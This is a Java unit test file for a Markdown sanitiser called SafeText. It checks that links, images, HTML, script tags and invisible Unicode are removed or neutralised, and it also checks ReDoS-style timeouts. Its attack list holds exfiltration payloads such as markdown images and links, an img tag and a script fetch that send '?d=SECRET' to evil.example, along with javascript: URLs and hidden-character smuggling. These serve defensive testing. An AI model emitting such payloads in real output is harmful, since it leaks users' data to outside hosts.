package io.resonant.action;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

import io.resonant.kernel.text.MarkdownDocument;
import java.time.Duration;
import java.util.Set;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class SafeTextTest {
    private static final Set<String> KNOWN = Set.of("https://docs.example.com/spec", "http://intra/a_(b)");

    @ParameterizedTest
    @ValueSource(
            strings = {
                "![logo](https://evil.example/?d=SECRET)",
                "![][x]\n\n[x]: https://evil.example/?d=SECRET",
                "![a]\n\n[a]: <https://evil.example/?d=SECRET> 'title'",
                "[![click](https://evil.example/i.png)](https://evil.example/?d=SECRET)",
                "[report](https://evil.example/?d=SECRET)",
                "[report](<https://evil.example/?d=SECRET> \"title\")",
                "[re[po]rt](https://evil.example/?d=SECRET)",
                "[https://docs.example.com/spec](https://evil.example/?d=SECRET)",
                "[report][1]\n\n[1]: https://evil.example/?d=SECRET",
                "[1]:\nhttps://evil.example/?d=SECRET\n\nsee [1]",
                "<https://evil.example/?d=SECRET>",
                "https://evil.example/?d=SECRET",
                "see https://docs.example.com/spec.evil.example/?d=SECRET now",
                "www.evil.example/?d=SECRET",
                "mailto:thief@evil.example?body=SECRET",
                "thief@evil.example",
                "<img src=https://evil.example/?d=SECRET>",
                "<img\nsrc='https://evil.example/?d=SECRET'\n>",
                "a <script>fetch('https://evil.example')</script>",
                "<!-- hidden instruction -->",
                "<a href=\"javascript:alert(1)\">x</a>",
                "[x](javascript:alert(1))",
                "[x](data:text/html;base64,AAAA)",
                "[x](vbscript:msgbox)",
                "[x](//evil.example/?d=SECRET)",
                "[x](/api/v1/organizations/current/members)",
                "[x](\\\\evil\\share)",
                "> [x](https://evil.example)\n> - ![y](https://evil.example)",
                "| a |\n|---|\n| ![y](https://evil.example/?d=SECRET) |",
                "`code` ![y](https://evil.example) `more`",
                "[a](https://evil.example/(nested))",
                "ftp://evil.example/x",
                "[^1]\n\n[^1]: ![x](https://evil.example/?d=SECRET)",
                "&#33;[x](https://evil.example)",
                "!\u200B[x](https://evil.example/?d=SECRET)",
                "！[画像](https://evil.example/?d=SECRET)",
                "[報告書](https://evil.example/?d=秘密)"
            })
    void noLinkImageOrTagOfItsOwnSurvives(String attack) {
        var safe = SafeText.markdown(attack, 5000, KNOWN::contains);
        var document = MarkdownDocument.parse(safe);
        assertThat(document.html()).as(safe).isEmpty();
        assertThat(document.links())
                .as(safe)
                .allSatisfy(link -> assertThat(KNOWN).contains(link.destination()));
        assertThat(SafeText.markdown(safe, 5000, KNOWN::contains))
                .as("stable")
                .satisfies(again ->
                        assertThat(MarkdownDocument.parse(again).links()).isEqualTo(document.links()));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "# 要約\n\n- **決定**: 期限は12月1日\n- `code` と [仕様](https://docs.example.com/spec)\n",
                "見よ https://docs.example.com/spec を",
                "[頭](#頭) と ~~取り消し~~ と a < b && c > d",
                "| 列 | 値 |\n|---|---|\n| 一 | 1 |",
                "葛󠄀城市 と 👨‍👩‍👧 と ❤️ と が゙",
                "1 < 2, x <3"
            })
    void whatIsHarmlessStaysAsItIs(String text) {
        assertThat(SafeText.markdown(text, 5000, KNOWN::contains)).isEqualTo(text.strip());
    }

    @ParameterizedTest
    @CsvSource({
        "'a\u202Eb\u2066c', abc",
        "'a\u200Bb\u2060c\uFEFFd', abcd",
        "'a\u0000b\u0007c\u009Fd', abcd",
        "'x\uDB40\uDC69\uDB40\uDC67\uDB40\uDC6Ey', xy",
        "'\uE000a', a",
        "'a\u3164b\u115Fc', abc",
        "'  one\n\ttwo  three ', one two three"
    })
    void whatNobodySeesIsRemoved(String text, String visible) {
        assertThat(SafeText.line(text, 100)).isEqualTo(visible);
    }

    @Test
    void halvesOfPairsAndSmuggledSelectorsAreRemovedAndCutsKeepCharactersWhole() {
        assertThat(SafeText.line("a\uD83Db", 100)).isEqualTo("ab");
        assertThat(SafeText.line("a\uFE00\uFE01\uFE02\uDB40\uDD00\uDB40\uDD01b", 100))
                .isEqualTo("a\uFE00b");
        assertThat(SafeText.line("😀".repeat(50), 10)).isEqualTo("😀".repeat(9) + "…");
        assertThat(SafeText.block("", 10)).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {"[", "![", "a.", "a@", "<", "`", "*", "[a](", "http://", "[a]: b\n", "|", "> ", "\u200B"})
    void nothingThatIsWrittenTakesLong(String piece) {
        var text = piece.repeat(200_000 / piece.length());
        assertTimeoutPreemptively(Duration.ofSeconds(10), () -> SafeText.markdown(text, 20_000, KNOWN::contains));
    }
}
